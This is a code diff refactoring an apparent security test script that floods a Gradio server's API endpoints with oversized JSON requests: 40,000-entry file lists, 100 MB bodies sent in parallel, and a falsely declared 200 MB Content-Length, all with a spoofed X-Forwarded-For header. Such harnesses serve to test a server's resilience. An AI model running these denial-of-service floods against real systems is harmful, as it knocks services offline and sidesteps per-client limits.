@@ -75,35 +75,27 @@ def stream_joins(url: str, tmp: Path) -> str:
     return f"{joined}/66 stream joins accepted"
 
 
-def file_flood(url: str, tmp: Path) -> str:
-    body = ('{"data": [[' + ",".join(['{"path": "/tmp/x.jpg", "meta": {"_type": "gradio.FileData"}}'] * 40_000) + "]]}").encode()
-
-    def send() -> int:
+def _post_many(url: str, path: str, body: bytes, times: int) -> list[int]:
+    """``times`` POSTs of ``body`` as JSON, four at once; the HTTP status of each (0 when the connection failed)."""
+    def send(_) -> int:
         try:
-            r = httpx.post(url + "/gradio_api/call/predict_batch", content=body, timeout=60,
-                           headers={"Content-Type": "application/json", "X-Forwarded-For": ATTACKER})
-            return r.status_code
+            return httpx.post(url + path, content=body, timeout=60,
+                              headers={"Content-Type": "application/json", "X-Forwarded-For": ATTACKER}).status_code
         except httpx.HTTPError:
             return 0
 
     with ThreadPoolExecutor(4) as pool:
-        codes = list(pool.map(lambda _: send(), range(4)))
+        return list(pool.map(send, range(times)))
+
+
+def file_flood(url: str, tmp: Path) -> str:
+    body = ('{"data": [[' + ",".join(['{"path": "/tmp/x.jpg", "meta": {"_type": "gradio.FileData"}}'] * 40_000) + "]]}").encode()
+    codes = _post_many(url, "/gradio_api/call/predict_batch", body, 4)
     return f"4 × {len(body) / 2**20:.1f} MB bodies of 40,000 file entries: HTTP {sorted(set(codes))}"
 
 
 def big_bodies(url: str, tmp: Path) -> str:
-    chunk = b"[" + b"0," * (50 * 2**20) + b"0]"
-
-    def send() -> int:
-        try:
-            r = httpx.post(url + "/gradio_api/queue/join", content=chunk, timeout=60,
-                           headers={"Content-Type": "application/json", "X-Forwarded-For": ATTACKER})
-            return r.status_code
-        except httpx.HTTPError:
-            return 0
-
-    with ThreadPoolExecutor(4) as pool:
-        codes = list(pool.map(lambda _: send(), range(12)))
+    codes = _post_many(url, "/gradio_api/queue/join", b"[" + b"0," * (50 * 2**20) + b"0]", 12)
     status, _ = raw_request(url, "POST /gradio_api/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                  "Content-Length: 200000000\r\n", b"{")
     return f"12 × 100 MB JSON bodies: HTTP {sorted(set(codes))}; 200 MB declared: HTTP {status}"
